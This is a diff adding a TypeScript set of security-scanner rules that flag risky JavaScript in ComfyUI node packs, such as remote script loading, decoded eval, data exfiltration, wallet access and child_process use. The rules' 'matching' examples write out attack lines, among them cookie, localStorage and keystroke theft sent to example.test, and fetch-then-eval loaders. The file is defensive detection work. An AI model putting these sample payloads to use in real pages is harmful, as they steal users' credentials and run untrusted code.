@@ -1,0 +1,236 @@
+import { argumentsOf, type CodeFacts } from '../code-facts.ts'
+import type { Call } from '../flow/evaluate.ts'
+import { hostOf, isScriptHost } from '../flow/hosts.ts'
+import { runsScript, sendsAway } from '../flow/javascript-library.ts'
+import { has, isMade, type Value } from '../flow/values.ts'
+import type { CodeRule, Hit } from '../rule.ts'
+
+function* callHits(facts: CodeFacts, find: (call: Call) => Omit<Hit, 'line'> | undefined): Generator<Hit> {
+  for (const call of facts.calls) {
+    const hit = find(call)
+    if (hit) yield { line: call.line, ...hit }
+  }
+}
+
+const isAssignment = (name: string) => name.endsWith('=')
+
+/** Code that a page runs: the text, or the address of a script. */
+function codeOf(call: Call): Value | undefined {
+  const { name, args } = call
+  if (/^(Function|AsyncFunction|GeneratorFunction)$|\.constructor$/.test(name)) return args.at(-1)
+  // A timer usually gets a function; then no text is run.
+  if (/^set(Timeout|Interval|Immediate)$/.test(name))
+    return args[0]?.units.length || args[0]?.names.length ? undefined : args[0]
+  return runsScript.test(name) && !/^document\.write|insertAdjacent/.test(name) ? args[0] : undefined
+}
+
+export const scriptFromNetwork: CodeRule = {
+  of: 'javascript',
+  id: 'downloaded-script',
+  severity: 'critical',
+  why: 'Whoever controls that address controls the page of every user, and through it the tool.',
+  fix: 'Put the script into the pack, where it can be read and checked.',
+  examples: {
+    matching: [
+      'fetch("https://example.test/x.js").then(r => r.text()).then(code => eval(code))',
+      'const r = await fetch(url); new Function(await r.text())()',
+      'const s = document.createElement("script"); s.src = "https://example.test/x.js"; document.head.append(s)',
+      'import("https://example.test/x.js")',
+      'const w = window; w["ev" + "al"](await (await fetch("https://example.test/a")).text())',
+    ],
+    harmless: [
+      'const r = await fetch("/api/x"); const v = JSON.parse(await r.text())',
+      'import { app } from "../../scripts/app.js"',
+      'const s = document.createElement("script"); s.src = "./extensions/x/lib.js"',
+      'const s = document.createElement("script"); s.src = "https://cdn.jsdelivr.net/npm/marked@4.3.0/marked.min.js"',
+      'setTimeout(() => fetch("https://example.test/x"), 10)',
+    ],
+  },
+  find: (facts) =>
+    callHits(facts, (call) => {
+      if (has(codeOf(call), 'network') && call.name !== 'import')
+        return { message: `\`${call.name}\` runs what comes from the network.` }
+      const isScript =
+        /^element:script\.(src|href)=$/.test(call.name) ||
+        call.name === 'import' ||
+        call.name === 'importScripts'
+      if (!isScript) return undefined
+      const address = call.args[0]?.texts.find((text) => hostOf(text) !== '')
+      if (has(call.args[0], 'decoded'))
+        return { message: 'Loads a script from an address that is hidden by an encoding.' }
+      return address === undefined || isScriptHost(address)
+        ? undefined
+        : { message: 'Loads a script from another server.', severity: 'high' }
+    }),
+}
+
+export const remoteScript: CodeRule = {
+  of: 'javascript',
+  id: 'hosted-script',
+  severity: 'low',
+  why: 'The page does not work without that server, which learns who uses the pack.',
+  fix: 'Put the script into the pack.',
+  examples: {
+    matching: [
+      'import("https://esm.sh/three@0.160.0")',
+      'const s = document.createElement("script"); s.src = "https://unpkg.com/x@1.0.0/x.js"',
+    ],
+    harmless: ['import "./x.js"'],
+  },
+  find: (facts) =>
+    callHits(facts, (call) =>
+      (call.name === 'import' || /^element:script\.src=$/.test(call.name)) &&
+      call.args[0]?.texts.some(isScriptHost)
+        ? { message: 'Loads a script from a host of packages.' }
+        : undefined,
+    ),
+}
+
+export const hiddenScript: CodeRule = {
+  of: 'javascript',
+  id: 'hidden-script',
+  severity: 'critical',
+  why: 'Code that is decoded before it runs hides what it does from everyone who reads it.',
+  fix: 'Ship the code as readable JavaScript.',
+  examples: {
+    matching: [
+      'eval(atob("YWxlcnQoMSk="))',
+      'new Function(atob(x))()',
+      'const f = window["eval"]; f(String.fromCharCode(97, 108, 101))',
+      'setTimeout(atob("YWxlcnQoMSk="), 10)',
+      '[]["filter"]["constructor"](atob(x))()',
+    ],
+    harmless: ['const image = atob(data)', 'setTimeout(() => atob(x), 10)', 'new Function("return this")()'],
+  },
+  find: (facts) =>
+    callHits(facts, (call) =>
+      has(codeOf(call), 'decoded')
+        ? { message: `\`${call.name}\` runs something that is decoded first.` }
+        : undefined,
+    ),
+}
+
+export const dynamicScript: CodeRule = {
+  of: 'javascript',
+  id: 'dynamic-script',
+  severity: 'low',
+  why: 'A workflow that someone shares can carry the text that is run here.',
+  fix: 'Parse the input.',
+  examples: {
+    matching: ['function f(x) { return eval(x) }', 'new Function("a", body)'],
+    harmless: ['eval("1 + 1")', 'setTimeout(f, 1)'],
+  },
+  find: (facts) =>
+    callHits(facts, (call) => {
+      const code = /^(eval|Function|execScript)$/.test(call.name) ? codeOf(call) : undefined
+      const isOpen = code !== undefined && isMade(code)
+      return isOpen && !has(code, 'network', 'decoded')
+        ? { message: `\`${call.name}\` runs a text that is made while the page is open.` }
+        : undefined
+    }),
+}
+
+export const pageDataSent: CodeRule = {
+  of: 'javascript',
+  id: 'page-data-sent',
+  severity: 'high',
+  why: 'Cookies, the page’s storage and what a user types hold keys and passwords.',
+  fix: 'Send only what the service needs, by name, and tell the user.',
+  examples: {
+    matching: [
+      'fetch("https://example.test/c?d=" + document.cookie)',
+      'navigator.sendBeacon("https://example.test", JSON.stringify(localStorage))',
+      'document.addEventListener("keydown", (e) => fetch("https://example.test/k", { method: "POST", body: e.key }))',
+      'new Image().src = `https://example.test/?c=${encodeURIComponent(document["coo" + "kie"])}`',
+      'const d = {...localStorage}; const x = new XMLHttpRequest(); x.open("POST", "https://example.test"); x.send(JSON.stringify(d))',
+    ],
+    harmless: [
+      'fetch("/api/save", { method: "POST", body: JSON.stringify(localStorage) })',
+      'fetch("https://example.test/x", { headers: { a: localStorage.getItem("my-key") } })',
+      'document.addEventListener("keydown", (e) => run(e.key))',
+    ],
+  },
+  find: (facts) =>
+    callHits(facts, (call) => {
+      if (!sendsAway.test(call.name)) return undefined
+      const values = argumentsOf(call)
+      const isOwn =
+        !isAssignment(call.name) &&
+        values[0] !== undefined &&
+        values[0].texts.length > 0 &&
+        values[0].texts.every((text) => hostOf(text) === '' && text.startsWith('/'))
+      return !isOwn && values.some((value) => has(value, 'storage', 'spying'))
+        ? { message: 'Sends away cookies, storage or what the user types.' }
+        : undefined
+    }),
+}
+
+export const hiddenReceiver: CodeRule = {
+  of: 'javascript',
+  id: 'hidden-receiver',
+  severity: 'high',
+  why: 'An address that is hidden by an encoding is meant not to be found.',
+  fix: 'Write the address as it is.',
+  examples: {
+    matching: ['fetch(atob("aHR0cHM6Ly9leGFtcGxlLnRlc3Q="), { method: "POST", body: x })'],
+    harmless: ['fetch(atob(x))', 'fetch("https://example.test")'],
+  },
+  find: (facts) =>
+    callHits(facts, (call) =>
+      sendsAway.test(call.name) &&
+      has(call.args[0], 'decoded') &&
+      call.args[0]?.texts.some((text) => hostOf(text) !== '')
+        ? { message: 'Contacts an address that is hidden by an encoding.' }
+        : undefined,
+    ),
+}
+
+export const walletAccess: CodeRule = {
+  of: 'javascript',
+  id: 'wallet-access',
+  severity: 'high',
+  why: 'No comfy-node needs the user’s wallet.',
+  fix: 'Remove it.',
+  examples: {
+    matching: [
+      'await window.ethereum.request({ method: "eth_requestAccounts" })',
+      'const w = window.solana; w.connect()',
+    ],
+    harmless: ['const ethereum = 1', 'app.request({ method: "x" })'],
+  },
+  find: (facts) =>
+    callHits(facts, (call) =>
+      /^(ethereum|solana|phantom|tronWeb)\.\w+$/.test(call.name)
+        ? { message: 'Asks for the user’s wallet.' }
+        : undefined,
+    ),
+}
+
+export const nodeProcess: CodeRule = {
+  of: 'javascript',
+  id: 'script-process',
+  severity: 'high',
+  why: 'A script of a page has no business with programs; this one is meant to be run outside of it.',
+  fix: 'Remove it.',
+  examples: {
+    matching: ['require("child_process").exec("ls")'],
+    harmless: ['require("./x")', 'const r = /x/.exec("x")'],
+  },
+  find: (facts) =>
+    callHits(facts, ({ name, args }) =>
+      name === 'require' && args[0]?.texts.some((text) => /^(node:)?child_process$/.test(text))
+        ? { message: 'Starts programs from a script.' }
+        : undefined,
+    ),
+}
+
+export const scriptRules = [
+  scriptFromNetwork,
+  remoteScript,
+  hiddenScript,
+  dynamicScript,
+  pageDataSent,
+  hiddenReceiver,
+  walletAccess,
+  nodeProcess,
+]
